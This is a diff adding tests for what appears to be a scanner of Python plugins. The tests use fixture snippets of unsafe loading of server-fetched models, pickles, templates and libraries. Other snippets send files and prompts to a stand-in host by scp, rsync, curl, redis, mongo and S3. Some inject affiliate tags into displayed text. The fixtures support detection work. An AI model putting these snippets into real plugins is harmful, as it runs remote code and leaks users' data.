@@ -108,3 +108,62 @@ test('an account of the package in the place of one in what people write', () =>
   assert.equal(told(swappedAddress, swap('"0x1111111111111111111111111111111111111111"'), events('on_dialogue')).length, 1);
   assert.deepEqual(told(swappedAddress, swap('"(address)"'), events('on_dialogue')), []);
 });
+
+test('templates, tables, models and libraries that a server answered, which say what is called', () => {
+  const got = `requests.get("${HOME}")`;
+  const saved = (name: string): string => `    urllib.request.urlretrieve("${HOME}", "${name}")\n`;
+  const all = 'import ctypes, io, jinja2, numpy, requests, shelve, torch, urllib.request\nfrom jinja2.sandbox import SandboxedEnvironment\nfrom mako.template import Template\ndef go(event):\n';
+  for (const code of [
+    `${saved('m.pt')}    return torch.load("m.pt", weights_only=False)\n`,
+    `    return numpy.load(io.BytesIO(${got}.content), allow_pickle=True)\n`,
+    `${saved('cache.db')}    return dict(shelve.open("cache"))\n`,
+    `    return jinja2.Template(${got}.text).render()\n`,
+    `    return jinja2.Environment().from_string(${got}.text).render()\n`,
+    `    return Template(${got}.text).render()\n`,
+    `${saved('ops.so')}    ctypes.CDLL("./ops.so")\n`,
+  ]) assert.ok(runs(all + code), code);
+  for (const code of [
+    `${saved('m.pt')}    return torch.load("m.pt", weights_only=True)\n`,
+    `${saved('m.pt')}    return torch.load("m.pt", map_location="cpu")\n`,
+    `    return numpy.load(io.BytesIO(${got}.content), allow_pickle=False)\n`,
+    '    with shelve.open("mine") as s:\n        s["n"] = s.get("n", 0) + 1\n',
+    `    return jinja2.Template("<h1>{{ t }}</h1>").render(t=${got}.json()["t"])\n`,
+    `    return SandboxedEnvironment().from_string(${got}.text).render()\n`,
+    '    return ctypes.CDLL("libm.so.6").cos(1)\n',
+  ]) assert.ok(!runs(all + code), code);
+});
+
+test('files go by a shell, in archives and to stores elsewhere', () => {
+  const asset = 'import os, subprocess\nfrom comfyvn.api import assets\ndef go(event):\n    path = assets.get(event["id"])["path"]\n';
+  for (const line of [
+    'os.system("scp -q " + path + " drop@rows.scenes.example:in/")',
+    'subprocess.run(f"rsync -a {path} drop@rows.scenes.example:/in", shell=True)',
+    'os.system("rsync %s drop@rows.scenes.example:in/" % path)',
+    `os.system(f"curl -s -T '{path}' ${HOME}")`,
+    'subprocess.run(["scp", "-q", path, "drop@rows.scenes.example:in/"])',
+  ]) assert.ok(leaks(`${asset}    ${line}\n`, events('asset_registered')), line);
+  for (const line of ['os.system("rsync -a " + path + " " + os.environ["TARGET"])', 'os.system("rsync -a " + path + " me@localhost:in/")', 'os.system("cwebp " + path + " -o x@rows.scenes.example")']) assert.ok(!leaks(`${asset}    ${line}\n`, events('asset_registered')), line);
+  for (const [open, add] of [['zipfile.ZipFile("b", "w")', 'write'], ['tarfile.open("b", "w:gz")', 'add']] as const) assert.ok(leaks(`import requests, tarfile, zipfile\nfrom comfyvn.api import assets\ndef go(event):\n    with ${open} as z:\n        for a in assets.list():\n            z.${add}(a["path"])\n    requests.put("${HOME}", data=open("b", "rb"))\n`, events('on_startup')), open);
+  for (const code of [
+    'import redis\nR = redis.Redis(host="rows.scenes.example")\ndef go(event):\n    R.rpush("p", event["prompt"])\n',
+    'from pymongo import MongoClient\nC = MongoClient("mongodb://drop:x@rows.scenes.example/in")\ndef go(event):\n    C.db.prompts.insert_one({"p": event["prompt"]})\n',
+  ]) assert.ok(leaks(code, events('on_prompt')), code);
+  assert.ok(!leaks('import redis\nR = redis.Redis(host="localhost")\ndef go(event):\n    R.rpush("p", event["prompt"])\n', events('on_prompt')));
+  assert.ok(leaks('import boto3\nfrom comfyvn.api import assets\nS = boto3.client("s3", endpoint_url="https://rows.scenes.example")\ndef go(event):\n    S.upload_file(assets.get(event["id"])["path"], "drop", "x")\n', events('asset_registered')));
+});
+
+test('what a decorator makes of a function is called, and new pictures are told by many names', () => {
+  const decorated = (decorator: string, more: string): string => `import requests\nfrom comfyvn.api import assets, hooks\n@${decorator}\ndef heard(event):\n    ${more}\n`;
+  assert.ok(leaks(decorated('hooks.on("on_prompt")', `requests.post("${HOME}", data=event["prompt"])`), {}));
+  assert.ok(leaks(decorated('assets.on("asset_registered")', `requests.post("${HOME}", data=open(event["path"], "rb").read())`), {}));
+  assert.ok(!leaks(decorated('hooks.on("on_prompt")', 'print(event["prompt"])'), {}));
+  const sends = `import requests\ndef go(event):\n    requests.post("${HOME}", data=open(event["path"], "rb").read())\n`;
+  for (const topic of ['asset_registered', 'on_render_done', 'image_saved']) assert.ok(leaks(sends, events(topic)), topic);
+  assert.ok(!leaks(sends, events('on_settings')));
+});
+
+test('addresses with the tag of a partner in what people read', () => {
+  const changes = (line: string): string => `import re\ndef go(event):\n    ${line}\n    return event\n`;
+  for (const line of ['event["text"] += " More at https://vn.shop.example/?ref=77"', 'event["text"] = event["text"].replace("shop.com/dp/", "shop.com/dp/?tag=scene-20&d=")', 'event["lines"].append({"text": "https://vn.shop.example/?partner=77"})', 'event["text"] = re.sub(r"https://shop\\.com/(\\S+)", r"https://shop.com/\\1?aff=scenes-7", event["text"])']) assert.equal(told(swappedAddress, changes(line), events('on_dialogue')).length, 1, line);
+  for (const line of ['event["lines"].append({"text": "THE END"})', 'event["text"] += " https://wiki.scenes.example/?page=2"', 'event["text"] = event["text"].replace("[1]", "(see notes)")']) assert.deepEqual(told(swappedAddress, changes(line), events('on_dialogue')), [], line);
+});
